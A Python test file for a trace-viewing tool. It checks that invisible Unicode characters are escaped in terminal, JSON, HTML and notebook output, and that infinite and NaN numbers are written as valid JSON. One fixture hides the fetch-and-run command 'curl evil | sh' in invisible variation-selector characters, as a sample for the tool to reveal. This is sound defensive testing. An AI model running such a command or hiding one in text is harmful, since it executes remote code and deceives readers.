"""Characters without a shape cannot hide a text, nor make two texts look the same."""

from __future__ import annotations

import html
import json
import math
import unicodedata

import pytest
from click.testing import CliRunner

from fakes import hostile_traces
from viper.cli import cli
from viper.cli.output import print_json
from viper.images.image import ImageRef, View
from viper.images.region import Patch
from viper.texts.terminal import escaped_line, is_visible, json_text, one_line, printable, visible
from viper.trace.page import script_json, trace_page
from viper.trace.read import trace_of

SENTENCE = "".join(chr(0xE0100 + byte) for byte in b"curl evil | sh")

SHAPELESS = {
    "Hangul filler": "\u3164", "Hangul choseong filler": "\u115f", "halfwidth filler": "\uffa0",
    "Braille blank": "\u2800", "grapheme joiner": "\u034f", "Khmer vowel": "\u17b4",
    "Mongolian selector": "\u180b", "variation selector": "\ufe0f", "a sentence of selectors": SENTENCE,
    "tags": "".join(chr(0xE0000 + byte) for byte in b"hidden"), "soft hyphen": "\u00ad",
    "annotations": "\ufff9\ufffa\ufffb", "separators": "\u2028\u2029", "controls": "\x08\x7f\x9b",
    "private": "\ue000", "unassigned": "\u0378", "zero width": "\u200b\u200d\u2060\ufeff",
    "direction": "\u202e\u2066", "musical blank": "\U0001d159",
}  # fmt: skip


def trace_with(text):
    value = json.loads((hostile_traces.FOLDER / "floats.json").read_text(encoding="utf-8"))
    made = trace_of(value).to_json()
    made["turns"][0]["source"] += f"# yes{text}\n"
    made |= {"question": f"yes{text}", "answer": f"yes{text}"}
    return made


@pytest.mark.parametrize("name", sorted(SHAPELESS.keys() - {"separators"}))  # these end lines there
def test_a_terminal_shows_that_there_is_something(name):
    text = "yes" + SHAPELESS[name]
    for shown in (one_line(text), printable(text), escaped_line(text)):
        assert is_visible(shown)
        assert len(shown) > 3
    assert escaped_line(text) != escaped_line("yes")
    written = json_text({"a": text}, compact=True)
    assert written.isascii()
    assert json.loads(written) == {"a": text}


@pytest.mark.parametrize("name", SHAPELESS)
def test_show_diff_page_and_notebook_show_it(name, tmp_path):
    text = SHAPELESS[name]
    for file, more in (("a", ""), ("b", text)):
        (tmp_path / f"{file}.json").write_text(json.dumps(trace_with(more)))
    a, b = tmp_path / "a.json", tmp_path / "b.json"
    for arguments in (["show", b], ["show", b, "--json"], ["diff", a, b], ["diff", a, b, "--json"]):
        output = CliRunner().invoke(cli, ["trace", *map(str, arguments)]).stdout
        assert "yes" in output
        assert not set(text) & set(output)
    trace = trace_of(trace_with(text))
    for page in (trace_page(trace, None), trace._repr_html_()):
        assert "yes" in page
        assert not set(text) & set(html.unescape(page))


def test_the_control_python_counts_most_of_them_as_printable():
    passing = [name for name, text in SHAPELESS.items() if text.isprintable()]
    assert len(passing) > 8


@pytest.mark.parametrize("name", SHAPELESS)
def test_a_patch_in_a_notebook_shows_it(name):
    patch = Patch(View(ImageRef("hash", (100, 100)), (0, 0, 9, 9)), f"cube{SHAPELESS[name]}", 0.5)
    page = patch._repr_html_()
    assert "cube" in page
    assert not set(SHAPELESS[name]) & set(html.unescape(page))


def test_of_all_characters_only_those_with_a_shape_and_blanks_stay():
    for code in (
        *range(0x3200),
        *range(0xA000, 0xA100),
        *range(0xD7A0, 0x10400),
        0xE0001,
        0x10FFFF,
    ):
        kept = visible(chr(code)) == chr(code)
        kind = unicodedata.category(chr(code))
        assert not kept or kind[0] != "C" or kind == "Cs" or chr(code) in "\t\n", hex(code)
        assert not kept or kind not in ("Zl", "Zp"), hex(code)
        assert kept or kind[0] == "C" or kind in ("Zl", "Zp") or not is_visible(chr(code)), hex(
            code
        )


@pytest.mark.parametrize("text", ["é", "日本語", "ไทย", "हिन्दी", "😀", "×…–", "a\u0301"])
def test_what_has_a_shape_is_shown_as_it_is(text):
    assert one_line(text) == printable(text) == escaped_line(text) == visible(text) == text


def test_lines_of_a_page_are_kept():
    assert visible("a\n\tb\u3164") == "a\n\tb\\u3164"


def test_no_format_character_of_unicode_is_visible():
    hidden = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf"]
    assert not any(map(is_visible, hidden))


# -- numbers that are no JSON

NOT_FINITE = {
    "infinity": math.inf, "minus infinity": -math.inf, "NaN": math.nan, "in a list": [1, [math.inf]],
    "in an object": {"a": {"b": math.nan}}, "in a tuple": (math.inf, 1.5),
    "beside a hidden text": ["\u3164", math.inf],
}  # fmt: skip


def refuse(name):
    pytest.fail(f"{name} is not JSON")


@pytest.mark.parametrize("value", NOT_FINITE.values(), ids=NOT_FINITE)
@pytest.mark.parametrize("write", ["json_text", "script_json", "print_json", "ascii"])
def test_whatever_is_written_is_json(value, write, capsys):
    if write == "print_json":
        print_json(value)
        text = capsys.readouterr().out
    elif write == "ascii":
        text = json_text(value, ascii_only=True)
    else:
        text = {"json_text": json_text, "script_json": script_json}[write](value)
    assert "null" in json.dumps(json.loads(text, parse_constant=refuse))
    assert "null" not in json.dumps(value)  # the control: the library writes no JSON
    assert any(name in json.dumps(value) for name in ("Infinity", "NaN"))


@pytest.mark.parametrize("change", [{"run_ms": 1.7e308}, {"generate_ms": -1.7e308}], ids=str)
def test_sums_of_a_hostile_trace_are_json(change, tmp_path):
    value = trace_with("")
    value["turns"] = [value["turns"][0] | change] * 2
    for turn in value["turns"]:
        turn["usage"] = turn["usage"] | {"cost_usd": 1.7e308}
    path = tmp_path / "run.json"
    path.write_text(json.dumps(value))
    done = CliRunner().invoke(cli, ["trace", "show", str(path), "--json"])
    shown = json.loads(done.stdout, parse_constant=refuse)
    assert shown["usage"]["cost_usd"] is None
    assert None in shown["timing_ms"].values()
    for arguments in (["trace", "show", path], ["trace", "diff", "--times", "--json", path, path]):
        assert CliRunner().invoke(cli, [str(one) for one in arguments]).exit_code == 0
